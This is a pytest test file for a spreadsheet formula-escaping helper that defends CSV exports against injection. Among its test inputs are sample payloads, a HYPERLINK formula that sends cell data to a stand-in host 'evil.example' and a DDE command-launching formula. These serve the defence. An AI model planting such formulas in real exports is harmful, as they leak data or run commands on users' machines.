"""Formula escaping (OWASP "CSV Injection"): the one helper, and what it does to each kind of cell."""

from __future__ import annotations

import csv
import io

import pytest

from drugcontrol.spreadsheet_safety import SafeCsvWriter, SafeDictWriter, escape_formula, escape_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "=cmd|' /C calc'!A0",
    ],
)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Алматы", "KZ-71", "a=b", "", "'=already text", 0, -5, 2.5, None])
def test_everything_else_is_unchanged(value) -> None:
    assert escape_formula(value) == value


def test_writers_escape_every_cell_and_csv_still_quotes_separators() -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([["id", "note"], ["=1+2", 'a,"b"'], [-3, "@x"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["id", "note"], ["'=1+2", 'a,"b"'], ["-3", "'@x"]]
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, fieldnames=["id", "smiles"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"id": "+cmd", "smiles": "CCO"})
    writer.writerows([{"id": "-x", "smiles": "=C"}])
    assert buffer.getvalue() == "id,smiles\n'+cmd,CCO\n'-x,'=C\n"
    assert escape_row(["=a", 1]) == ["'=a", 1]
